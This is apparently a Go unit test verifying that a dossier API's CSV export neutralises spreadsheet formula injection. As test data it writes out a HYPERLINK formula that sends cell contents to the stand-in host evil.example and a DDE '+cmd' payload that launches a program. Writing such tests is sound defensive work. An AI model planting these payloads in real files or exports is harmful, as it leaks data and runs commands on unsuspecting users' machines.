package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"tinnhiem/dossier"
)

// A round file is written by people: a name or a position that begins like a formula reaches
// the CSV export as text, never as a formula a spreadsheet would run.
func TestDossierCSVNeutralisesFormulas(t *testing.T) {
	a := newDZAPI(t, true)
	a.startProjector(t)
	next := a.round
	next.Nominees = append([]dossier.Nominee{}, a.round.Nominees...)
	next.Nominees[0].Name = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
	next.Nominees[1].Position = "+cmd|' /C calc'!A0"
	next.Nominees[2].Name = "@SUM(1+1)"
	if _, _, err := a.st.Rounds.Save(context.Background(), next, "test", time.Now()); err != nil {
		t.Fatal(err)
	}
	code, _, body := a.do(t, http.MethodGet, "/api/v1/rounds/dz-api/dossiers?format=csv", "xem", nil)
	if code != http.StatusOK {
		t.Fatalf("HTTP %d %s", code, body)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q begins like a formula", cell)
			}
		}
	}
	if !bytes.Contains(body, []byte(`'=HYPERLINK(`)) || !bytes.Contains(body, []byte(`'+cmd|`)) || !bytes.Contains(body, []byte(`'@SUM(1+1)`)) {
		t.Errorf("the cells are not kept as text:\n%s", body)
	}
}
